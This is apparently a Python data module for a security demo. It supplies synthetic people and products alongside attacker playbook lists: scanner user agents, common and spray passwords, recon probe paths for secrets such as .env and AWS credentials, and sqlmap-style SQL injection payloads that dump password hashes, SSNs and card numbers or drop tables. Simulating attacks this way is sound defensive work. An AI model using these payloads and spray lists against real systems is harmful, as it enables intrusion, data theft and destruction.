"""Word lists the demo population and the attacker playbooks draw from.

Plain tuples, no I/O: names and places for synthetic people, product words,
browser and scanner user agents, common and sprayed passwords, recon probe
paths and sqlmap-style injection payloads. Everything here is fictional or
public knowledge (top-password lists, well-known scanner signatures).
"""

from __future__ import annotations

FIRST_NAMES: tuple[str, ...] = (
    "James", "Mary", "Robert", "Patricia", "John", "Jennifer", "Michael", "Linda", "David", "Elizabeth",
    "William", "Barbara", "Richard", "Susan", "Joseph", "Jessica", "Thomas", "Sarah", "Charles", "Karen",
    "Christopher", "Lisa", "Daniel", "Nancy", "Matthew", "Betty", "Anthony", "Margaret", "Mark", "Sandra",
    "Donald", "Ashley", "Steven", "Kimberly", "Paul", "Emily", "Andrew", "Donna", "Joshua", "Michelle",
    "Kenneth", "Carol", "Kevin", "Amanda", "Brian", "Melissa", "George", "Deborah", "Timothy", "Stephanie",
    "Ronald", "Rebecca", "Jason", "Sharon", "Edward", "Laura", "Jeffrey", "Cynthia", "Ryan", "Kathleen",
    "Priya", "Wei", "Mohammed", "Fatima", "Carlos", "Sofia", "Hiroshi", "Yuki", "Olga", "Ahmed",
    "Aisha", "Diego", "Chen", "Ana", "Lucas", "Emma", "Noah", "Olivia", "Liam", "Ava",
)

LAST_NAMES: tuple[str, ...] = (
    "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis", "Rodriguez", "Martinez",
    "Hernandez", "Lopez", "Gonzalez", "Wilson", "Anderson", "Thomas", "Taylor", "Moore", "Jackson", "Martin",
    "Lee", "Perez", "Thompson", "White", "Harris", "Sanchez", "Clark", "Ramirez", "Lewis", "Robinson",
    "Walker", "Young", "Allen", "King", "Wright", "Scott", "Torres", "Nguyen", "Hill", "Flores",
    "Green", "Adams", "Nelson", "Baker", "Hall", "Rivera", "Campbell", "Mitchell", "Carter", "Roberts",
    "Patel", "Kim", "Chen", "Singh", "Kowalski", "Novak", "Yamamoto", "Okafor", "Haddad", "Fischer",
)

STREETS: tuple[str, ...] = (
    "Main St", "Oak Ave", "Maple Dr", "Cedar Ln", "Pine St", "Elm St", "Washington Blvd", "Lakeview Dr",
    "Hillcrest Rd", "Sunset Blvd", "Park Ave", "River Rd", "Church St", "Highland Ave", "Meadow Ln",
    "Forest Dr", "Spring St", "Willow Way", "Chestnut St", "Lincoln Ave", "Franklin St", "Jefferson Ave",
)

# (city, state, zip prefix, area code)
CITIES: tuple[tuple[str, str, str, str], ...] = (
    ("Springfield", "IL", "627", "217"), ("Portland", "OR", "972", "503"), ("Austin", "TX", "787", "512"),
    ("Denver", "CO", "802", "303"), ("Columbus", "OH", "432", "614"), ("Raleigh", "NC", "276", "919"),
    ("Madison", "WI", "537", "608"), ("Boise", "ID", "837", "208"), ("Tucson", "AZ", "857", "520"),
    ("Albany", "NY", "122", "518"), ("Richmond", "VA", "232", "804"), ("Omaha", "NE", "681", "402"),
    ("Sacramento", "CA", "958", "916"), ("Nashville", "TN", "372", "615"), ("Burlington", "VT", "054", "802"),
)

EMAIL_DOMAINS: tuple[str, ...] = ("example.com", "example.org", "example.net", "mail.test", "inbox.test")

PRODUCT_ADJECTIVES: tuple[str, ...] = (
    "Classic", "Smart", "Eco", "Pro", "Compact", "Deluxe", "Wireless", "Vintage", "Ultra", "Organic",
    "Portable", "Premium", "Everyday", "Travel", "Heavy-Duty", "Mini",
)
PRODUCT_NOUNS: tuple[tuple[str, str], ...] = (
    ("Headphones", "electronics"), ("Coffee Maker", "kitchen"), ("Backpack", "outdoor"),
    ("Desk Lamp", "home"), ("Water Bottle", "outdoor"), ("Keyboard", "electronics"),
    ("Running Shoes", "sports"), ("Yoga Mat", "sports"), ("Blender", "kitchen"), ("Notebook", "office"),
    ("Fountain Pen", "office"), ("Tent", "outdoor"), ("Smartwatch", "electronics"), ("Throw Blanket", "home"),
    ("Cast Iron Pan", "kitchen"), ("Bike Light", "sports"), ("Phone Case", "electronics"), ("Tea Set", "kitchen"),
)

SEARCH_TERMS: tuple[str, ...] = (
    "headphones", "coffee", "backpack", "lamp", "bottle", "keyboard", "shoes", "yoga", "blender", "pen",
    "tent", "watch", "blanket", "pan", "light", "case", "tea", "wireless", "travel", "organic",
)

TICKET_SUBJECTS: tuple[str, ...] = (
    "Card declined at checkout", "Where is my order?", "Update billing address", "Refund request",
    "Cannot see my savings account", "Double charge on payment", "Change delivery date", "App keeps logging me out",
    "Question about fees", "Damaged item received",
)

BROWSER_UAS: tuple[str, ...] = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
)
MOBILE_APP_UAS: tuple[str, ...] = (
    "DemoBank/5.3.1 (iPhone; iOS 17.4.1; Scale/3.00)",
    "DemoBank/5.3.0 (Android 14; SM-S918B) okhttp/4.12.0",
    "DemoBank/5.2.7 (iPad; iPadOS 17.3; Scale/2.00)",
)
LEGACY_APP_UAS: tuple[str, ...] = (  # old clients still on the deprecated v1 API
    "DemoBank/2.9.4 (Android 7.1.1; SM-J510F) okhttp/3.8.0",
    "DemoBank/2.8.0 (iPhone; iOS 12.5.7)",
)
SCANNER_UAS: tuple[str, ...] = (
    "sqlmap/1.7.11#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Fuzz Faster U Fool v2.1.0-dev",
    "gobuster/3.6",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
)
SCRIPT_UAS: tuple[str, ...] = (
    "python-requests/2.31.0", "curl/8.4.0", "Go-http-client/1.1", "axios/1.6.8", "okhttp/4.9.3",
)

# A slice of the public top-password lists, used by users with weak passwords
# and by stuffing combo lists.
COMMON_PASSWORDS: tuple[str, ...] = (
    "123456", "password", "123456789", "12345678", "12345", "qwerty", "abc123", "password1", "111111",
    "iloveyou", "1q2w3e4r", "000000", "qwerty123", "zaq12wsx", "dragon", "sunshine", "princess", "letmein",
    "654321", "monkey", "football", "charlie", "donald", "aa123456", "123123", "baseball", "shadow",
    "master", "superman", "michael", "trustno1", "welcome", "login", "starwars", "passw0rd", "hello123",
)
# What a sprayer tries: few passwords that satisfy common complexity rules.
SPRAY_PASSWORDS: tuple[str, ...] = (
    "Spring2025!", "Winter2024!", "Welcome1!", "Password1!", "Summer2024!", "Company123!",
)

# Paths a recon scanner probes: spec files, admin consoles, secrets, frameworks.
RECON_PATHS: tuple[str, ...] = (
    "/openapi.json", "/swagger.json", "/swagger/v1/swagger.json", "/v2/api-docs", "/v3/api-docs",
    "/api-docs", "/swagger-ui.html", "/docs", "/redoc", "/api/swagger.yaml", "/openapi.yaml",
    "/.env", "/.git/config", "/.git/HEAD", "/config.json", "/server-status", "/actuator",
    "/actuator/env", "/actuator/health", "/actuator/heapdump", "/wp-login.php", "/phpinfo.php",
    "/admin", "/admin/login", "/console", "/graphql", "/graphiql", "/api/graphql", "/.well-known/security.txt",
    "/backup.zip", "/db.sql", "/api/v1/admin", "/api/v2/internal", "/api/v2/internal/debug",
    "/api/v2/users/export", "/api/v2/debug", "/api/internal/metrics", "/metrics", "/api/v3/users",
    "/api/v2/config", "/.aws/credentials", "/etc/passwd", "/cgi-bin/test.cgi", "/api/v2/admin/users",
    "/api/v2/users", "/api/v2/accounts", "/api/v2/health", "/robots.txt", "/sitemap.xml", "/api/v2/test",
    "/api/v2/dev", "/api/v2/staging", "/api/v2/backup", "/api/v2/logs", "/api/v2/export", "/api/v2/tokens",
)
FUZZ_WORDS: tuple[str, ...] = (
    "admin", "internal", "debug", "test", "dev", "backup", "export", "import", "config", "settings",
    "private", "secret", "hidden", "old", "legacy", "beta", "v0", "system", "status", "metrics",
    "keys", "tokens", "sessions", "invoices", "reports", "audit", "logs", "upload", "files", "graphql",
)

# sqlmap-style probes for a string parameter (boolean, error, union, stacked, time).
SQLI_PAYLOADS: tuple[str, ...] = (
    "'", "\"", "')", "' OR '1'='1", "' OR 1=1-- -", "1' AND 1=1-- -", "1' AND 1=2-- -",
    "' AND 5721=5721 AND 'xYzA'='xYzA", "' AND 5721=5722 AND 'xYzA'='xYzA",
    "' ORDER BY 1-- -", "' ORDER BY 4-- -", "' ORDER BY 10-- -",
    "' UNION ALL SELECT NULL-- -", "' UNION ALL SELECT NULL,NULL-- -", "' UNION ALL SELECT NULL,NULL,NULL-- -",
    "' UNION ALL SELECT NULL,NULL,NULL,NULL-- -",
    "' UNION ALL SELECT 1,sqlite_version(),3,4-- -",
    "' UNION ALL SELECT 1,name,sql,4 FROM sqlite_master-- -",
    "' UNION ALL SELECT id,email,password_hash,4 FROM users-- -",
    "' UNION ALL SELECT id,email,ssn,card_number FROM users-- -",
    "' AND 1=CAST((SELECT sqlite_version()) AS INT)-- -",
    "'; DROP TABLE users-- -", "' AND (SELECT COUNT(*) FROM sqlite_master)>0-- -",
    "' AND 1234=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(1000))))-- -",
    "%' AND 2963=2963 AND '%'='", "' AND SUBSTR((SELECT password_hash FROM users LIMIT 1),1,1)='a'-- -",
)
